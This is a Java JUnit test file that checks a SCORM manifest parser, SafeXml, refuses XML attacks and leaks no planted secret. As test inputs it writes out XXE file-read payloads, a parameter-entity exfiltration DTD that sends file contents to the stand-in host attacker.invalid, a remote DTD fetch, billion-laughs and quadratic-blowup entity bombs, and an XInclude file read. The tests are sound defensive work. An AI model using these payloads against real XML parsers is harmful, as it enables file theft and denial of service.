package org.framsteg.scorm.internal.xml;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.concurrent.TimeUnit;
import org.framsteg.scorm.PackageException;
import org.framsteg.scorm.PackageLimits;
import org.framsteg.scorm.PackageRule;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/** Every known XML attack ends in a {@link PackageException} naming the rule, quickly. */
@Timeout(value = 30, unit = TimeUnit.SECONDS) // a guard against hangs, not a speed measure
class SafeXmlTest {
  private static final String SECRET = "framsteg-secret-4711";
  private static final PackageLimits LIMITS = PackageLimits.defaults();

  @TempDir Path dir;

  private static PackageException refused(String xml) {
    return refused(xml.getBytes(UTF_8), LIMITS);
  }

  private static PackageException refused(byte[] xml, PackageLimits limits) {
    PackageException e = catchThrowableOfType(PackageException.class,
        () -> SafeXml.parse(xml, "imsmanifest.xml", limits));
    assertThat(e).as("a PackageException").isNotNull();
    assertThat(e.problems()).isNotEmpty();
    assertThat(e.problems().get(0).entry()).isEqualTo("imsmanifest.xml");
    return e;
  }

  @Test
  void externalEntityFileReadIsRefusedAndNothingIsRead() throws Exception {
    Path secret = Files.writeString(dir.resolve("secret.txt"), SECRET);
    PackageException e = refused("<?xml version='1.0'?><!DOCTYPE manifest ["
        + "<!ENTITY xxe SYSTEM '" + secret.toUri() + "'>]><manifest>&xxe;</manifest>");
    assertThat(e.rule()).isEqualTo(PackageRule.DOCTYPE_FORBIDDEN);
    assertThat(e.getMessage()).doesNotContain(SECRET);
  }

  @Test
  void externalEntityInAnAttributeIsRefused() throws Exception {
    Path secret = Files.writeString(dir.resolve("secret.txt"), SECRET);
    PackageException e = refused("<!DOCTYPE manifest [<!ENTITY xxe SYSTEM '" + secret.toUri()
        + "'>]><manifest identifier='&xxe;'/>");
    assertThat(e.rule()).isEqualTo(PackageRule.DOCTYPE_FORBIDDEN);
    assertThat(e.getMessage()).doesNotContain(SECRET);
  }

  @Test
  void parameterEntityExfiltrationIsRefused() throws Exception {
    Path secret = Files.writeString(dir.resolve("secret.txt"), SECRET);
    Path evil = Files.writeString(dir.resolve("evil.dtd"),
        "<!ENTITY % all \"<!ENTITY send SYSTEM 'http://attacker.invalid/?%file;'>\">%all;");
    PackageException e = refused("<!DOCTYPE manifest [<!ENTITY % file SYSTEM '" + secret.toUri()
        + "'><!ENTITY % dtd SYSTEM '" + evil.toUri() + "'>%dtd;]><manifest>&send;</manifest>");
    assertThat(e.rule()).isEqualTo(PackageRule.DOCTYPE_FORBIDDEN);
    assertThat(e.getMessage()).doesNotContain(SECRET);
  }

  @Test
  void externalDtdIsNeverFetched() throws Exception {
    Path dtd = Files.writeString(dir.resolve("manifest.dtd"), "<!ENTITY x '" + SECRET + "'>");
    PackageException e = refused("<?xml version='1.0'?><!DOCTYPE manifest SYSTEM '" + dtd.toUri()
        + "'><manifest>&x;</manifest>");
    assertThat(e.rule()).isEqualTo(PackageRule.DOCTYPE_FORBIDDEN);
    assertThat(e.getMessage()).doesNotContain(SECRET);
  }

  @Test
  void externalDtdOverTheNetworkIsRefused() {
    PackageException e = refused("<!DOCTYPE manifest PUBLIC '-//X//DTD X//EN' "
        + "'http://attacker.invalid/manifest.dtd'><manifest/>");
    assertThat(e.rule()).isEqualTo(PackageRule.DOCTYPE_FORBIDDEN);
  }

  @Test
  void billionLaughsIsRefusedBeforeAnyExpansion() {
    StringBuilder dtd = new StringBuilder("<!DOCTYPE lolz [<!ENTITY lol0 'lol'>");
    for (int i = 1; i <= 9; i++) {
      dtd.append("<!ENTITY lol").append(i).append(" '");
      dtd.append(("&lol" + (i - 1) + ";").repeat(10)).append("'>");
    }
    dtd.append("]><manifest>&lol9;</manifest>");
    PackageException e = refused(dtd.toString());
    assertThat(e.rule()).isEqualTo(PackageRule.DOCTYPE_FORBIDDEN);
  }

  @Test
  void quadraticBlowupIsRefused() {
    String big = "a".repeat(50_000);
    String xml = "<!DOCTYPE manifest [<!ENTITY a '" + big + "'>]><manifest>"
        + "&a;".repeat(50_000) + "</manifest>";
    PackageException e = refused(xml);
    assertThat(e.rule()).isEqualTo(PackageRule.DOCTYPE_FORBIDDEN);
  }

  @Test
  void entityReferenceWithoutDoctypeIsMalformed() {
    PackageException e = refused("<manifest><title>&undeclared;</title></manifest>");
    assertThat(e.rule()).isEqualTo(PackageRule.XML_MALFORMED);
    assertThat(e.problems().get(0).path()).isEqualTo("/manifest/title");
  }

  @Test
  void deepNestingStopsAtTheDepthLimitWithThePath() {
    int depth = 100_000;
    String xml = "<a>".repeat(depth) + "</a>".repeat(depth);
    PackageException e = refused(xml);
    assertThat(e.rule()).isEqualTo(PackageRule.XML_TOO_DEEP);
    assertThat(e.problems().get(0).path()).startsWith("/a/a/a").endsWith("/a");
    assertThat(e.problems().get(0).path().split("/")).hasSize(LIMITS.maxElementDepth() + 2);
  }

  @Test
  void hugeAttributeIsRefusedNamingTheAttribute() {
    String xml = "<manifest><organizations><organization identifier='"
        + "x".repeat(2_000_000) + "'/></organizations></manifest>";
    PackageException e = refused(xml);
    assertThat(e.rule()).isEqualTo(PackageRule.TEXT_TOO_LONG);
    assertThat(e.problems().get(0).path())
        .isEqualTo("/manifest/organizations/organization[1]/@identifier");
  }

  @Test
  void hugeTextIsRefused() {
    PackageException e = refused("<manifest><title>" + "t".repeat(1_000_000)
        + "</title></manifest>");
    assertThat(e.rule()).isEqualTo(PackageRule.TEXT_TOO_LONG);
    assertThat(e.problems().get(0).path()).isEqualTo("/manifest/title");
  }

  @Test
  void tooManyAttributesIsRefused() {
    StringBuilder xml = new StringBuilder("<manifest><item");
    for (int i = 0; i < 500; i++) {
      xml.append(" a").append(i).append("='v'");
    }
    xml.append("/></manifest>");
    PackageException e = refused(xml.toString());
    assertThat(e.rule()).isEqualTo(PackageRule.TOO_MANY_ATTRIBUTES);
    assertThat(e.problems().get(0).path()).startsWith("/manifest");
    assertThat(e.problems().get(0).detail()).contains("item");
  }

  @Test
  void attributesJustOverTheLimitAreRefusedNamingTheElement() {
    PackageLimits few = PackageLimits.builder().maxAttributes(3).build();
    byte[] xml = "<manifest><item a='1' b='2' c='3' d='4'/></manifest>".getBytes(UTF_8);
    PackageException e = refused(xml, few);
    assertThat(e.rule()).isEqualTo(PackageRule.TOO_MANY_ATTRIBUTES);
    assertThat(e.problems().get(0).path()).isEqualTo("/manifest/item[1]");
  }

  @Test
  void tooManyNamespaceDeclarationsCountAsAttributes() {
    StringBuilder xml = new StringBuilder("<manifest");
    for (int i = 0; i < 200; i++) {
      xml.append(" xmlns:p").append(i).append("='urn:x:").append(i).append("'");
    }
    xml.append("/>");
    assertThat(refused(xml.toString()).rule()).isEqualTo(PackageRule.TOO_MANY_ATTRIBUTES);
  }

  @Test
  void documentLargerThanTheManifestLimitIsRefusedUnparsed() {
    PackageLimits small = PackageLimits.builder().maxManifestBytes(1024).build();
    byte[] xml = ("<manifest>" + " ".repeat(2000) + "</manifest>").getBytes(UTF_8);
    assertThat(refused(xml, small).rule()).isEqualTo(PackageRule.MANIFEST_TOO_LARGE);
  }

  @Test
  void xincludeIsNotResolved() throws Exception {
    Path secret = Files.writeString(dir.resolve("secret.txt"), SECRET);
    XmlElement root = SafeXml.parse(("<manifest xmlns:xi='http://www.w3.org/2001/XInclude'>"
        + "<xi:include href='" + secret.toUri() + "' parse='text'/></manifest>").getBytes(UTF_8),
        "imsmanifest.xml", LIMITS);
    assertThat(root.children()).singleElement()
        .satisfies(c -> assertThat(c.localName()).isEqualTo("include"));
    assertThat(root.children().get(0).text()).doesNotContain(SECRET);
  }

  @Test
  void notXmlIsMalformed() {
    assertThat(refused("this is not xml").rule()).isEqualTo(PackageRule.XML_MALFORMED);
    assertThat(refused(new byte[0], LIMITS).rule()).isEqualTo(PackageRule.XML_MALFORMED);
    assertThat(refused("<manifest><unclosed></manifest>").rule())
        .isEqualTo(PackageRule.XML_MALFORMED);
    assertThat(refused("<manifest a='1' a='2'/>").rule()).isEqualTo(PackageRule.XML_MALFORMED);
  }

  @Test
  void unknownEncodingIsMalformed() {
    assertThat(refused("<?xml version='1.0' encoding='x-no-such-charset'?><manifest/>").rule())
        .isEqualTo(PackageRule.XML_MALFORMED);
  }

  @Test
  void pathsIndexRepeatedElementsFromOne() {
    XmlElement root = SafeXml.parse(("<manifest xmlns='http://www.imsglobal.org/xsd/imscp_v1p1' "
        + "xmlns:imsss='http://www.imsglobal.org/xsd/imsss'><organizations><organization>"
        + "<item/><item/><item><title>t</title><imsss:sequencing/></item></organization>"
        + "</organizations></manifest>").getBytes(UTF_8), "imsmanifest.xml", LIMITS);
    XmlElement third = root.children().get(0).children().get(0).children().get(2);
    assertThat(third.path()).isEqualTo("/manifest/organizations/organization[1]/item[3]");
    assertThat(third.children().get(1).path())
        .isEqualTo("/manifest/organizations/organization[1]/item[3]/imsss:sequencing");
    assertThat(third.children().get(0).trimmedText()).isEqualTo("t");
  }

  @Test
  void predefinedEntitiesAndCdataAreText() {
    XmlElement root = SafeXml.parse(
        "<title>a &amp; b &lt;c&gt; <![CDATA[<d>]]></title>".getBytes(UTF_8), "m.xml", LIMITS);
    assertThat(root.text()).isEqualTo("a & b <c> <d>");
  }
}
